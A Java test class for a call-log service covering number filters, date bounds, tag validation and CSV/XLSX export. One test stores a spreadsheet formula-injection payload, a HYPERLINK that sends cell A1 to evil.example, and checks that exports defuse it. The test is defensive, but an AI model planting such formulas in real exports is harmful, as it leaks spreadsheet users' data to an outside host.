package dev.switchboard.calls;

import static org.assertj.core.api.Assertions.assertThat;

import dev.switchboard.simulator.PhoneScript;
import dev.switchboard.simulator.SimClock;
import dev.switchboard.support.VirtualTimeCallTest;
import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.context.annotation.Primary;

/** The call log's filters and export, as a review found them wrong. */
@Import(CallLogReviewTest.Noon.class)
class CallLogReviewTest extends VirtualTimeCallTest {

    @TestConfiguration
    static class Noon {
        @Bean
        @Primary
        SimClock reviewClock() {
            return new SimClock(Instant.parse("2026-11-25T18:00:00Z")); // Wednesday noon in Chicago
        }
    }

    /** A call from {@code from}, answered by a new member after 2 s and hung up 10 s later; returns its id. */
    private String answeredCallFrom(String from) {
        var sip = "sip:ann-" + UUID.randomUUID().toString().substring(0, 8) + "@review.sip.telnyx.com";
        var ann = member("Ann", "101", sip);
        var rule = owner.post("/api/v1/routing-rules", Map.of("name", "Ann", "type", "SIMULTANEOUS", "member_ids", List.of(ann),
                "ring_timeout_seconds", 20));
        assertThat(rule.status()).as(rule.body()).isEqualTo(201);
        sim.phone(sip, PhoneScript.answerAfter(Duration.ofSeconds(2)));
        var caller = sim.call(from, number);
        sim.advance(Duration.ofSeconds(12));
        caller.hangUp();
        assertThat(call().get("from_number")).isEqualTo(from);
        return call().get("id").toString();
    }

    @Test
    void aCallerWhoseNumberIsOutsideTheNumberingPlanIsFoundByTheNumberTheLogShows() {
        newCompany("Review Numbers Co");
        // E.164 in form, but in no area code libphonenumber knows (as a carrier may well deliver): the log shows it as it came.
        var id = answeredCallFrom("+15555550123");
        var byApi = owner.get("/api/v1/call-logs?number=%2B15555550123");
        assertThat(byApi.status()).as(byApi.body()).isEqualTo(200);
        assertThat(byApi.json()).hasSize(1);
        assertThat(byApi.json().get(0).get("id").asString()).isEqualTo(id);
        assertThat(owner.get("/api/v1/call-logs?number=%2B1%20555%20555%200123").json()).hasSize(1);
        var web = webLogin(owner.email(), "correct-horse");
        var page = web.get("/calls?number=%2B15555550123");
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).contains("/calls/" + id);
        assertThat(web.get("/calls/export.csv?number=%2B15555550123").body()).contains(id);
        // What is not a number at all is still refused, naming the field.
        assertThat(owner.get("/api/v1/call-logs?number=abc").status()).isEqualTo(422);
        assertThat(owner.get("/api/v1/call-logs?number=abc").errorField()).isEqualTo("number");
        assertThat(web.get("/calls?number=12").status()).isEqualTo(422);
    }

    @Test
    void theLastDayTheFormTakesFiltersTheLogInsteadOfBeingRefusedAsOutOfRange() {
        newCompany("Review Dates Co");
        var id = answeredCallFrom("+17735550123");
        var web = webLogin(owner.email(), "correct-horse");
        // "Until 9999-12-31", the last day the form takes: its end (the next midnight) is past what an instant may be.
        var page = web.get("/calls?from=2026-11-25&to=9999-12-31");
        assertThat(page.status()).as(page.body()).isEqualTo(200);
        assertThat(page.body()).contains("/calls/" + id);
        assertThat(web.get("/calls/export.csv?to=9999-12-31").body()).contains(id);
        assertThat(web.get("/calls?to=10000-01-01").status()).isEqualTo(422);
    }

    @Test
    void anExportedNoteOrTagIsNeverAFormulaWhenTheCsvIsOpenedInASpreadsheet() throws Exception {
        newCompany("Review Export Co");
        var id = answeredCallFrom("+17735550123");
        var note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        var annotated = owner.patch("/api/v1/call-logs/" + id, Map.of("notes", note, "tags", List.of("@SUM(1+1)", "-2+3", "vip")));
        assertThat(annotated.status()).as(annotated.body()).isEqualTo(200);
        var csv = webLogin(owner.email(), "correct-horse").get("/calls/export.csv").body();
        var row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords().getFirst();
        assertThat(row.get("call_id")).isEqualTo(id);
        assertThat(row.get("notes")).as("text, not a formula").isEqualTo("'" + note);
        assertThat(row.get("tags")).doesNotStartWith("@").contains("@SUM(1+1)");
        // A phone number stays itself.
        assertThat(row.get("from")).isEqualTo("+17735550123");
        // The log itself keeps what was typed.
        assertThat(owner.get("/api/v1/call-logs/" + id).json().get("call").get("notes").asString()).isEqualTo(note);
    }

    @Test
    void tagsAreOneOfEachWhateverTheCaseNotTooManyAndWithoutCommasAndExportsGiveARealDateAndTheInstant() throws Exception {
        newCompany("Review Tags Co");
        var id = answeredCallFrom("+17735550124");
        var annotated = owner.patch("/api/v1/call-logs/" + id, Map.of("tags", List.of("VIP", "vip", " Follow up ", "Vip")));
        assertThat(annotated.status()).as(annotated.body()).isEqualTo(200);
        var before = owner.get("/api/v1/call-logs/" + id).body();
        assertThat(owner.get("/api/v1/call-logs/" + id).json().get("call").get("tags").toString()).isEqualTo("[\"VIP\",\"Follow up\"]");
        var many = java.util.stream.IntStream.rangeClosed(1, 21).mapToObj(n -> "tag " + n).toList();
        for (var tags : List.of(many, List.of("north, south"))) {
            var refused = owner.patch("/api/v1/call-logs/" + id, Map.of("tags", tags));
            assertThat(refused.status()).as(refused.body()).isEqualTo(422);
            assertThat(refused.errorField()).isEqualTo("tags");
        }
        // A blank tag is refused naming it, not dropped: a list of blanks alone cleared the call's tags.
        var blanks = new java.util.ArrayList<String>(List.of("VIP", "   "));
        blanks.add(null);
        for (var tags : List.of(List.of(""), List.of("   "), blanks)) {
            var refused = owner.patch("/api/v1/call-logs/" + id, Map.of("tags", tags));
            assertThat(refused.status()).as(refused.body()).isEqualTo(422);
            assertThat(refused.errorField()).isEqualTo(tags.size() == 1 ? "tags[0]" : "tags[1]");
        }
        assertThat(owner.get("/api/v1/call-logs/" + id).body()).isEqualTo(before);
        assertThat(owner.patch("/api/v1/call-logs/" + id, Map.of("tags", many.subList(0, 20))).status()).isEqualTo(200);
        assertThat(owner.patch("/api/v1/call-logs/" + id, Map.of("tags", List.of("VIP", "Follow up"))).status()).isEqualTo(200);

        var started = Instant.parse(owner.get("/api/v1/call-logs/" + id).json().get("call").get("started_at").asString());
        var web = webLogin(owner.email(), "correct-horse");
        var row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(web.get("/calls/export.csv").body())).getRecords().getFirst();
        assertThat(row.get("tags")).isEqualTo("VIP, Follow up");
        assertThat(row.get("started_utc")).isEqualTo(started.truncatedTo(java.time.temporal.ChronoUnit.SECONDS).toString());
        var local = started.atZone(java.time.ZoneId.of("America/Chicago")).toLocalDateTime().withNano(0);
        assertThat(row.get("started")).isEqualTo(local.toString().replace('T', ' '));
        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(web.get("/calls/export.xlsx").bytes()))) {
            var cell = book.getSheetAt(0).getRow(1).getCell(0);
            assertThat(org.apache.poi.ss.usermodel.DateUtil.isCellDateFormatted(cell)).as("a date cell").isTrue();
            assertThat(cell.getLocalDateTimeCellValue()).isEqualTo(local);
            assertThat(book.getSheetAt(0).getRow(1).getCell(13).getStringCellValue()).isEqualTo(row.get("started_utc"));
        }
    }
}
